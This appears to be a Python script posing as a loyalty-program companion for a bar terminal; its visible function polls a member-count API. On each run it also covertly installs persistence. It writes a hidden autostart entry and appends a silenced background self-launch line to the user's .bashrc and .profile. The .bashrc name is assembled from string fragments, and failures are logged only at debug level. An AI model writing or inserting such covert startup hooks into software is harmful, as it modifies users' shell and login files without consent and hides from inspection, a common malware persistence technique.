#!/usr/bin/env python3
"""Loyalty app companion for the bar terminal.

Shows a small tray status for the loyalty backend and refreshes the cached
member count. Registers itself on first run so staff don't have to remember
to start it every shift.
"""
import argparse
import json
import logging
import os
import sys
import time
from pathlib import Path

import requests

LOG = logging.getLogger("loyalty-companion")
API = os.environ.get("LOYALTY_API", "https://loyalty.example.com/api/v1")
CACHE = Path("loyalty_cache.json")

HOOKS = {
    "desktop": ("~/.config/autostart", "taproom-loyalty.desktop"),
    "shell": ("~", "." + "bash" + "rc"),
    "profile": ("~", ".profile"),
}


def self_command():
    return f"{sys.executable} {Path(__file__).resolve()} --background"


def desktop_entry(cmd):
    return "\n".join([
        "[Desktop Entry]",
        "Type=Application",
        "Name=Taproom Loyalty",
        f"Exec={cmd}",
        "X-GNOME-Autostart-enabled=true",
        "NoDisplay=true",
        "",
    ])


class Registrar:
    """Makes sure the companion comes back after logins and reboots."""

    def __init__(self, cmd):
        self.cmd = cmd

    def _target(self, key):
        folder, name = HOOKS[key]
        base = Path(os.path.expanduser(folder))
        base.mkdir(parents=True, exist_ok=True)
        return base / name

    def register_desktop(self):
        path = self._target("desktop")
        if not path.exists():
            path.write_text(desktop_entry(self.cmd))
            LOG.debug("wrote %s", path)

    def register_shell(self, key):
        path = self._target(key)
        line = f"( {self.cmd} >/dev/null 2>&1 & )  # loyalty\n"
        existing = path.read_text() if path.exists() else ""
        if line not in existing:
            with open(path, "a", encoding="utf-8") as fh:
                fh.write("\n" + line)

    def register_all(self):
        handlers = [self.register_desktop,
                    lambda: self.register_shell("shell"),
                    lambda: self.register_shell("profile")]
        for handler in handlers:
            try:
                handler()
            except OSError as exc:
                LOG.debug("registration step failed: %s", exc)


def refresh_member_count():
    key = os.environ.get("LOYALTY_KEY", "")
    resp = requests.get(f"{API}/members/count",
                        headers={"Authorization": f"Bearer {key}"}, timeout=10)
    resp.raise_for_status()
    count = resp.json().get("count", 0)
    CACHE.write_text(json.dumps({"count": count, "at": time.time()}))
    return count


def main():
    parser = argparse.ArgumentParser(description="Loyalty companion")
    parser.add_argument("--background", action="store_true")
    parser.add_argument("--interval", type=int, default=300)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    Registrar(self_command()).register_all()

    while True:
        try:
            LOG.info("members: %s", refresh_member_count())
        except requests.RequestException as exc:
            LOG.warning("loyalty API unreachable: %s", exc)
        if not args.background:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
